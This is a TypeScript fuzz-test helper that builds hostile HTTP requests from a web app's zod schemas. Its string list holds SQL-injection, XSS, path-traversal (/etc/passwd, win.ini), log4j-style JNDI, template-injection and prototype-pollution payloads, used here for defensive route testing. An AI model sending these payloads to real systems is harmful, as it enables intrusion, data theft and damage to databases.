import fc from 'fast-check';
import { z } from 'zod';

/**
 * Generators of hostile requests for fuzz-routes.test.ts: values shaped by a route's own zod schema (so
 * most requests get past validation into the handler) with hostile strings and numbers at the leaves, and
 * plain hostile values (wrong types, deep JSON, prototype keys) in place of the whole.
 */

const LONG = 'a'.repeat(100_000);

/** Strings an attacker or a careless client sends. */
export const HOSTILE_STRINGS = [
  "' OR '1'='1",
  '1; DROP TABLE users; --',
  "x' UNION SELECT password_hash FROM users --",
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '../../../../etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  'a\u0000b',
  '\u0000',
  'مشروع الاستثمار الجهوي',
  'e\u0301\u0301\u0301\u0301\u0301',
  '\u202Egpj.exe\u202C',
  '\u200F\u200E\u061C',
  '😀👩‍👩‍👧‍👦',
  '\uD800',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4j-style payload, sent as plain text
  '${jndi:ldap://x/a}',
  '{{7*7}}',
  '__proto__',
  'constructor',
  'NaN',
  'Infinity',
  '-1',
  '0',
  '1e308',
  '99999999999999999999999',
  '2026-02-30',
  '0000-00-00',
  '',
  ' ',
  LONG,
] as const;

export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ maxLength: 20 }) },
);

const hostileNumber: fc.Arbitrary<number> = fc.oneof(
  fc.constantFrom(-1, 0, 1, 2, 3, 10, 2_147_483_647, 2_147_483_648, -2_147_483_649, Number.MAX_SAFE_INTEGER, 1e308, -1e308, 0.5),
  fc.integer(),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
);

/** Nested arrays `depth` levels deep: parsers and validators that recurse must not fall over. */
export const deepJson = (depth: number): string => `${'['.repeat(depth)}1${']'.repeat(depth)}`;
export const deepObject = (depth: number): string => `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;

/** Any value of a wrong shape in place of a whole body or field. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  hostileString,
  hostileNumber,
  fc.constantFrom(null, true, false, [], {}, { __proto__: { admin: true } }, { constructor: { prototype: { x: 1 } } }),
  fc.jsonValue({ maxDepth: 3 }),
);

type JsonSchema = {
  type?: string | string[];
  enum?: unknown[];
  const?: unknown;
  format?: string;
  minimum?: number;
  maximum?: number;
  minLength?: number;
  maxLength?: number;
  items?: JsonSchema;
  properties?: Record<string, JsonSchema>;
  required?: string[];
  anyOf?: JsonSchema[];
  oneOf?: JsonSchema[];
  allOf?: JsonSchema[];
};

/** The input JSON schema of a route's zod schema, or undefined when the route has none. */
export function inputSchema(schema: unknown): JsonSchema | undefined {
  if (!(schema instanceof z.ZodType)) return undefined;
  try {
    return z.toJSONSchema(schema, { io: 'input', unrepresentable: 'any' }) as JsonSchema;
  } catch {
    return {};
  }
}

const plausibleString = (s: JsonSchema): fc.Arbitrary<string> => {
  if (s.format === 'date') return fc.date({ noInvalidDate: true }).map((d) => d.toISOString().slice(0, 10));
  if (s.format === 'date-time') return fc.date({ noInvalidDate: true }).map((d) => d.toISOString());
  if (s.format === 'email') return fc.emailAddress();
  return fc.string({ minLength: s.minLength ?? 0, maxLength: Math.min(s.maxLength ?? 30, 60) });
};

/** Values of the schema's shape, with hostile leaves now and then (depth-limited). */
export function fromSchema(s: JsonSchema | undefined, depth = 0): fc.Arbitrary<unknown> {
  if (!s || depth > 5) return hostileValue;
  if (s.const !== undefined) return fc.oneof({ weight: 4, arbitrary: fc.constant(s.const) }, hostileValue);
  if (s.enum) return fc.oneof({ weight: 4, arbitrary: fc.constantFrom(...s.enum) }, hostileString);
  const variants = s.anyOf ?? s.oneOf;
  if (variants?.length) return fc.oneof(...variants.map((v) => fromSchema(v, depth + 1)));
  if (s.allOf?.length) return fromSchema(s.allOf[0], depth + 1);
  const types = [s.type ?? []].flat();
  if (types.length > 1) return fc.oneof(...types.map((type) => fromSchema({ ...s, type }, depth + 1)));
  switch (types[0]) {
    case 'string':
      return fc.oneof({ weight: 2, arbitrary: plausibleString(s) }, hostileString);
    case 'integer':
      return fc.oneof(
        {
          weight: 3,
          arbitrary: fc.integer({ min: Math.max(s.minimum ?? -5, -1_000_000), max: Math.min(s.maximum ?? 40, 1_000_000) }),
        },
        hostileNumber,
      );
    case 'number':
      return fc.oneof({ weight: 3, arbitrary: fc.integer({ min: 0, max: 1_000_000 }) }, hostileNumber);
    case 'boolean':
      return fc.oneof({ weight: 4, arbitrary: fc.boolean() }, hostileValue);
    case 'null':
      return fc.constant(null);
    case 'array':
      return fc.oneof({ weight: 4, arbitrary: fc.array(fromSchema(s.items, depth + 1), { maxLength: 4 }) }, hostileValue);
    case 'object': {
      const props = s.properties ?? {};
      const record = fc.record(Object.fromEntries(Object.entries(props).map(([k, v]) => [k, fromSchema(v, depth + 1)])), {
        requiredKeys: (s.required ?? []).filter((k) => k in props),
      });
      return fc.oneof({ weight: 6, arbitrary: record }, hostileValue);
    }
    default:
      return hostileValue;
  }
}

/** A query-string value: what the schema wants, written as text (arrays as repeated keys). */
const asQueryValue = (v: unknown): string | string[] =>
  Array.isArray(v)
    ? v.map((x) => (typeof x === 'string' ? x : (JSON.stringify(x) ?? '')))
    : typeof v === 'string'
      ? v
      : (JSON.stringify(v) ?? '');

/** A query string of the schema's keys (and a stray one now and then). */
export function queryFromSchema(s: JsonSchema | undefined): fc.Arbitrary<Record<string, string | string[]>> {
  const props = s?.properties ?? {};
  const known = fc.record(Object.fromEntries(Object.entries(props).map(([k, v]) => [k, fromSchema(v, 1).map(asQueryValue)])), {
    requiredKeys: [],
  });
  const stray = fc.dictionary(fc.constantFrom('page', 'size', 'sort', 'id', '__proto__', 'q'), hostileString.map(asQueryValue), {
    maxKeys: 2,
  });
  return fc.tuple(known, stray).map(([a, b]) => ({ ...b, ...a }) as Record<string, string | string[]>);
}

/** Lone surrogates (no UTF-8 form: they cannot travel in a URL or a header) replaced by U+FFFD. */
export const wellFormed = (s: string): string =>
  s.replace(/[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/g, '\uFFFD');

/** Text as a URL component. */
export const encoded = (s: string): string => encodeURIComponent(wellFormed(s));

/**
 * A path parameter, already encoded for the URL: ids of demo records (small integers), far ones, hostile
 * text, and broken percent-encodings sent raw.
 */
export const pathSegment: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.integer({ min: 1, max: 40 }).map(String) },
  { weight: 1, arbitrary: fc.constantFrom('0', '-1', '999999', '2147483648', '1.5', '1e3', '0x10', '2026-03-02', '2026-13-45') },
  { weight: 1, arbitrary: fc.constantFrom('%', '%ED%A0%80', '%FF', '%00', '..%2F..%2Fetc%2Fpasswd', '%252e', 'x'.repeat(600)) },
  { weight: 3, arbitrary: hostileString.filter((s) => s.length < 2000).map(encoded) },
);

/** A multipart field value: ids and hostile text. */
export const fieldValue: fc.Arbitrary<string> = fc.oneof(
  fc.integer({ min: 1, max: 40 }).map(String),
  hostileString.map(wellFormed),
);
